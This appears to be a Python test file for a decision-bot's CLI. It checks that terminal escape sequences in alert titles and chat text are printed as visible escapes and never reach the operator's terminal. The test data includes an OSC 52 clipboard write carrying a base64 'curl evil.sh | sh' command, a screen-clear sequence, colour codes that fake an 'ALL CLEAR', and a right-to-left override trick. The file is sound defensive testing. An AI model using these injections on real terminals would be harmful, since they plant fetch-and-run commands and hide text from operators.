"""What the ledger holds is anyone's text: an alert's title, what a chat user typed. Printed raw,
its escape sequences drove the operator's terminal (``runs show``, ``runs list``, ``transcripts
search``, ``report``, ``chat --run``): ESC [2J cleared the screen, colours hid or faked text, OSC 52 wrote the
clipboard (``curl ... | sh`` waiting to be pasted). They are now shown as their escapes."""

from __future__ import annotations

from pathlib import Path

from aiohttp.test_utils import TestClient, TestServer
from click.testing import CliRunner

from bot.cli import main
from bot.server import create_app

ROOT = Path(__file__).resolve().parents[1]
CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"  # OSC 52: the clipboard gets "curl evil.sh | sh"
TITLE = f"Disk \x1b[2J\x1b[1;31mALL CLEAR\x1b[0m {CLIPBOARD}\x9b fixed\u202etxt.exe"  # U+202E reorders the line


async def test_an_alerts_escape_sequences_are_printed_as_escapes_never_sent_to_the_terminal(tmp_path: Path) -> None:
    db = tmp_path / "t.db"
    app = create_app(db, ROOT / "flows", env={"DECISIONBOT_HOOK_TOKEN": "t"})
    client = TestClient(TestServer(app))
    await client.start_server()
    try:
        # through Alertmanager, whose alerts are taken whatever their text (the generic hook refuses a
        # title with control characters: its sender is told, and can send it again)
        alert = {
            "status": "firing",
            "labels": {"alertname": "disk", "decision_channel": "console", "decision_facilitator": "alice"},
            "annotations": {"summary": TITLE},
            "startsAt": "2026-12-01T10:00:00Z",
            "fingerprint": "d15c",
        }
        body = {"version": "4", "status": "firing", "receiver": "decisionbot", "groupKey": "{}:{}", "alerts": [alert]}
        resp = await client.post("/hooks/alertmanager", json=body, headers={"Authorization": "Bearer t"})
        assert resp.status == 200, await resp.text()
    finally:
        await client.close()
    runner = CliRunner()
    assert runner.invoke(main, ["--db", str(db), "db", "migrate"]).exit_code == 0  # the search index
    shown = {}
    for command in (["runs", "list"], ["runs", "show", "1"], ["transcripts", "search", "disk"], ["report"]):
        result = runner.invoke(main, ["--db", str(db), "--flows", str(ROOT / "flows"), *command], color=True)
        assert result.exit_code == 0, result.output
        shown[command[-1]] = result.output
    chat = runner.invoke(main, ["--db", str(db), "--flows", str(ROOT / "flows"), "chat", "--run", "1"], color=True)
    shown["chat"] = chat.output  # the run's question, printed as the run is continued in the terminal
    for command, output in shown.items():
        assert not any(c in output for c in "\x1b\x07\x9b\u202e"), command
    assert (
        "title: Disk \\x1b[2J\\x1b[1;31mALL CLEAR\\x1b[0m \\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07\\x9b"
        " fixed\\u202etxt.exe" in shown["1"]
    )
    assert "Disk \\x1b[2J" in shown["list"] and "[Disk] \\x1b[2J" in shown["disk"]
    assert "bot -> alice: Disk \\x1b[2J" in shown["chat"]


def test_a_console_trigger_prints_its_first_question_with_escapes_shown(tmp_path: Path) -> None:
    """``decisionbot trigger --channel console`` prints the run's first question: an alert's words
    in it were sent to the terminal raw (an OSC 52 clipboard write among them)."""
    args = ["--db", str(tmp_path / "t.db"), "--flows", str(ROOT / "flows"), "trigger", "metric_breach"]
    args += ["--channel", "console", "-f", "alice", "--data", f"metric=conv{CLIPBOARD}", "--data", "value=3"]
    args += ["--data", "threshold=5", "--title", "Conversion"]
    result = CliRunner().invoke(main, args, color=True)
    assert result.exit_code == 0, result.output
    assert not any(c in result.output for c in "\x1b\x07"), result.output
    assert "conv\\x1b]52;c;" in result.output
